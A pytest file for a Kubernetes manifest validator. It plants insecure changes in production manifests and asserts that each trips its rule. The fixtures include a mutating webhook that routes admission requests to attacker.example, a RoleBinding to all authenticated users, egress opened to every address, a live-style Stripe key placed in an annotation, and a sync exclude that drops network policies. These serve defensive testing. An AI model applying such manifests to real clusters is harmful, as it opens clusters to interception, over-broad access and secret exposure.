"""The posture gate (issue 22): each planted change that defeats the platform is a finding of its
rule on a fresh render of production; the committed tree is clean; the evaluator of the product
agrees with the declared flows both ways; `gen posture` prints what the catalog declares."""

from __future__ import annotations

import copy
import json
from typing import Any, Callable

import pytest
from click.testing import CliRunner

from generator.catalog import load_catalog
from generator import yamlio
from generator.cli import cli
from generator.posture.declared import derive
from generator.rendered import Doc
from generator.validation.run import validate_docs
from generator.validation.schemas import SchemaStore
from tests.conftest import PROJECT, as_doc, unwaived

CATALOG = load_catalog(PROJECT)
STORE = SchemaStore(CATALOG.environments.kubernetes_version, PROJECT / "schemas")
NS = CATALOG.environment("production").namespace
Docs = list[Doc]


def edited(docs: Docs, kind: str, change: Callable[[dict[str, Any]], None], first_only: bool = True) -> Docs:
    """The docs with the objects of `kind` (the first, or all) changed."""
    out, done = [], False
    for doc in docs:
        if doc.kind == kind and not (first_only and done):
            obj = copy.deepcopy(doc.obj)
            change(obj)
            doc, done = Doc(doc.file, obj, doc.part), True
        out.append(doc)
    return out


def added(part: str, obj: dict[str, Any]) -> Callable[[Docs], Docs]:
    name = obj["metadata"]["name"]
    return lambda docs: [*docs, as_doc(f"rendered/production/{part}/{obj['kind'].lower()}-{name}.yaml", obj)]


def meta(name: str, **more: Any) -> dict[str, Any]:
    return {"name": name, "namespace": NS, **more}


def container(obj: dict[str, Any]) -> dict[str, Any]:
    return obj["spec"]["template"]["spec"]["containers"][0]


def open_egress(obj: dict[str, Any]) -> None:
    obj["spec"]["egress"].append({"to": [{"ipBlock": {"cidr": "0.0.0.0/1"}}, {"ipBlock": {"cidr": "128.0.0.0/1"}}]})


def copy_into_argocd(docs: Docs) -> Docs:
    config = next(d for d in docs if d.kind == "ConfigMap" and d.part.name == "shared")
    return [*docs, as_doc(f"rendered/production/argocd/configmap-{config.name}.yaml", copy.deepcopy(config.obj))]


WEBHOOK = {"apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingWebhookConfiguration",
           "metadata": {"name": "intercept"},
           "webhooks": [{"name": "x.example.com", "clientConfig": {"url": "https://attacker.example/mutate"},
                         "admissionReviewVersions": ["v1"], "sideEffects": "None"}]}
BINDING = {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding", "metadata": meta("everyone"),
           "subjects": [{"kind": "Group", "name": "system:authenticated", "apiGroup": "rbac.authorization.k8s.io"}],
           "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "reader"}}

# rule -> the change that must make it fire (and production is otherwise clean)
POSTURE_BREAKAGES: dict[str, Callable[[Docs], Docs]] = {
    "GEN-KIND": added("shared", WEBHOOK),
    "GEN-WORKLOAD": lambda docs: edited(docs, "Deployment", lambda o: (
        o["spec"]["selector"]["matchLabels"].update({"app.kubernetes.io/name": "miner"}),
        o["spec"]["template"]["metadata"]["labels"].update({"app.kubernetes.io/name": "miner"}))),
    "GEN-NETWORK-POLICY": lambda docs: [d for d in docs if d.kind != "NetworkPolicy"],
    "GEN-NETWORK-FLOWS": lambda docs: edited(docs, "NetworkPolicy", open_egress, first_only=False),
    "GEN-SERVICE-TYPE": lambda docs: edited(docs, "Service", lambda o: o["spec"].update({"type": "LoadBalancer"})),
    "GEN-IMAGE-REGISTRY": lambda docs: edited(docs, "Deployment", lambda o: container(o).update(
        {"image": "ghcr.io/someone/tool:1.0"})),
    "GEN-OWNER": copy_into_argocd,
    "GEN-POD-SECURITY": lambda docs: edited(docs, "Namespace", lambda o: o["metadata"]["labels"].update(
        {"pod-security.kubernetes.io/enforce": "privileged"}) if o["metadata"]["name"] == NS else None,
        first_only=False),
    "GEN-TOKEN": lambda docs: edited(docs, "Deployment", lambda o: o["spec"]["template"]["spec"].update(
        {"automountServiceAccountToken": True})),
    "GEN-REPLICAS": lambda docs: edited(docs, "Deployment", lambda o: o["spec"].update({"replicas": 0}), first_only=False),
    "GEN-ARGOCD-SOURCE": lambda docs: edited(docs, "Application", lambda o: o["spec"]["source"].update(
        {"repoURL": "https://github.com/someone/else.git"})),
    "GEN-RBAC-SUBJECT": added("shared", BINDING),
    "GEN-SECRET-MATERIAL": lambda docs: edited(docs, "Deployment", lambda o: o["metadata"].setdefault(
        "annotations", {}).update({"billing/key": "sk_live_" + "4eC39HqLyjWDarjtT1zdp7dc"})),
    "GEN-SECRET-REF": lambda docs: edited(docs, "Deployment", lambda o: container(o).setdefault("env", []).append(
        {"name": "DB", "valueFrom": {"secretKeyRef": {"name": "postgres-credentials", "key": "password"}}})),
    "GEN-IMAGE-DECLARED": lambda docs: edited(docs, "Deployment", lambda o: container(o).update(
        {"image": container(o)["image"].rsplit(":", 1)[0] + ":unreviewed"})),
    "GEN-CONFIG-REPLICAS": lambda docs: edited(docs, "ConfigMap", lambda o: o["data"].update(
        {CATALOG.services.services[0].config_key: "99"}) if o["metadata"]["name"] == CATALOG.environment(
        "production").config_map_name else None, first_only=False),
    "GEN-SECRET-STORE": lambda docs: edited(docs, "ClusterSecretStore", lambda o: o["spec"]["conditions"][0][
        "namespaces"].append("default")),
    "GEN-ARGOCD-SYNC": lambda docs: edited(docs, "Application", lambda o: o["spec"]["source"].setdefault(
        "directory", {}).update({"exclude": "networkpolicy-*.yaml"}) if o["spec"]["source"].get("path", "").endswith(
        "/shared") else None, first_only=False),
}


@pytest.fixture(scope="module")
def production(fresh) -> Docs:
    return [doc for doc in fresh.docs if doc.part.env == "production"]


def run(docs: Docs):
    return validate_docs(CATALOG, CATALOG.environment("production"), docs, STORE)


def test_a_fresh_render_of_every_environment_holds_its_posture(fresh):
    """Every rule, the committed waivers applied as `gen validate` applies them."""
    for env in CATALOG.environments.environments:
        report = validate_docs(CATALOG, env, [d for d in fresh.docs if d.part.env == env.name], STORE)
        errors = unwaived(env.name, report.errors)
        assert errors == [], (env.name, errors[:3])


@pytest.mark.parametrize("check", sorted(POSTURE_BREAKAGES))
def test_each_planted_defeat_is_a_finding_of_its_rule(production, check):
    report = run(POSTURE_BREAKAGES[check](production))
    assert check in {f.check for f in report.errors}, [f"{f.check}: {f.message}" for f in report.errors][:5]


def test_an_exists_namespace_selector_admits_every_namespace(production):
    def everyone(obj: dict[str, Any]) -> None:
        obj["spec"]["ingress"].append({"from": [{"namespaceSelector": {"matchExpressions": [
            {"key": "kubernetes.io/metadata.name", "operator": "Exists"}]}}]})

    report = run(edited(production, "NetworkPolicy", lambda o: everyone(o) if o["metadata"]["name"].startswith(
        "chat-history") else None, first_only=False))
    flows = [f.message for f in report.errors if f.check == "GEN-NETWORK-FLOWS"]
    assert any("any pod in elsewhere -> chat-history" in m for m in flows), flows


def test_the_posture_flows_are_the_catalog_graph():
    env = CATALOG.environment("production")
    posture = derive(CATALOG, env)
    names = {(f.source, f.target, f.port) for f in posture.flows}
    for service in CATALOG.services.services:
        for callee in CATALOG.services.services:
            declared = (f"{service.name}-blue", f"{callee.name}-blue", callee.port) in names
            assert declared == (callee.name in service.calls), (service.name, callee.name)


def test_gen_posture_prints_the_declared_posture():
    result = CliRunner().invoke(cli, ["--project", str(PROJECT), "posture", "production", "--format", "json"])
    assert result.exit_code == 0, result.output
    printed = json.loads(result.output)
    env = CATALOG.environment("production")
    assert list(printed["namespaces"]) == env.namespaces()
    assert printed["namespaces"][env.namespace] == "restricted"
    public = [s.name for s in CATALOG.services.services if s.public]
    assert printed["entry"]["public"] == public
    assert CATALOG.environments.delivery.repository in printed["argocd"]["repositories"]


# --- the hydrated release parts (issue 23) ------------------------------------------------------


def test_each_release_part_holds_exactly_the_kinds_its_values_make():
    for env in CATALOG.environments.environments:
        posture = derive(CATALOG, env)
        for release in CATALOG.store_releases(env.name):
            folder = PROJECT / "rendered" / env.name / release.name
            rendered = sorted({yamlio.load(p.read_text())["kind"] for p in folder.glob("*.yaml")})
            assert posture.kinds_of(release.name) == release.kinds == tuple(rendered), (env.name, release.name)


def test_every_chart_pod_is_a_declared_store_endpoint(production):
    """Each workload of a release part runs a group of the store's server pods or its dump pods."""
    from generator.posture.flows import universe
    from generator.rendered import workloads

    posture = derive(CATALOG, CATALOG.environment("production"))
    releases = set(CATALOG.release_parts("production"))
    every = list(workloads(production))
    charted = [w for w in every if w.doc.part.name in releases]
    pods, strays = universe(posture.endpoints, every)
    assert charted and strays == []
    claimed = {id(p.workload): p.endpoint for p in pods if p.workload is not None}
    for w in charted:
        assert claimed[id(w)].role in ("store", "job"), w.doc.ref


def role_in(part: str) -> Callable[[Docs], Docs]:
    role = {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role", "metadata": meta("reader"),
            "rules": [{"apiGroups": [""], "resources": ["configmaps"], "verbs": ["get"]}]}
    return added(part, role)


def chart_source(docs: Docs) -> Docs:
    def install(obj: dict[str, Any]) -> None:
        if obj["metadata"]["name"] == "production-postgres":
            obj["spec"]["source"] = {"repoURL": CATALOG.environments.delivery.repository, "chart": "postgresql",
                                     "targetRevision": "16.7.27"}
    return edited(docs, "Application", install, first_only=False)


def project_opens_a_chart_repository(docs: Docs) -> Docs:
    return edited(docs, "AppProject", lambda o: o["spec"]["sourceRepos"].append(
        "registry-1.docker.io/bitnamicharts") if o["metadata"]["name"] == "therapeutic-ai" else None, first_only=False)


def other_folder(docs: Docs) -> Docs:
    return edited(docs, "Application", lambda o: o["spec"]["source"].update({"path": "rendered/production/redis"})
                  if o["metadata"]["name"] == "production-postgres" else None, first_only=False)


def chart_policy_opens_egress(docs: Docs) -> Docs:
    """What postgresql's own dump policy rendered (networkPolicy.enabled): egress with no `to`."""
    policy = {"apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy", "metadata": meta("postgres-pgdumpall"),
              "spec": {"podSelector": {"matchLabels": {"app.kubernetes.io/instance": "postgres",
                                                       "app.kubernetes.io/component": "pg_dumpall"}},
                       "policyTypes": ["Egress"], "egress": [{"ports": [{"port": 5432}]}]}}
    return added("postgres", policy)(docs)


RELEASE_BREAKAGES: dict[str, tuple[str, Callable[[Docs], Docs]]] = {
    "a Role in a release part": ("GEN-KIND", role_in("postgres")),
    "a chart's own NetworkPolicy": ("GEN-KIND", chart_policy_opens_egress),
    "an Application installing a chart": ("GEN-ARGOCD-SOURCE", chart_source),
    "a chart repository in the project": ("GEN-ARGOCD-SOURCE", project_opens_a_chart_repository),
    "a release's Application syncing another folder": ("GEN-ARGOCD-SOURCE", other_folder),
    "a chart pod reading a Secret into env": ("GEN-SECRET-REF", lambda docs: edited(docs, "StatefulSet", lambda o: container(o)
        .setdefault("env", []).append({"name": "REDISCLI_AUTH", "valueFrom": {"secretKeyRef": {
            "name": "redis-credentials", "key": "redis-password"}}}) if o["metadata"]["name"] == "redis" else None,
        first_only=False)),
}


@pytest.mark.parametrize("case", sorted(RELEASE_BREAKAGES))
def test_each_planted_defeat_of_a_release_part_is_a_finding_of_its_rule(production, case):
    check, breakage = RELEASE_BREAKAGES[case]
    report = run(breakage(production))
    assert check in {f.check for f in report.errors}, [f"{f.check}: {f.message}" for f in report.errors][:5]


def test_the_chart_policy_is_also_judged_by_what_it_admits(production):
    """The gate evaluates a chart's own NetworkPolicy with the platform's: egress without `to` is open."""
    report = run(chart_policy_opens_egress(production))
    assert {"GEN-NETWORK-OPEN", "GEN-NETWORK-FLOWS"} <= {f.check for f in report.errors}
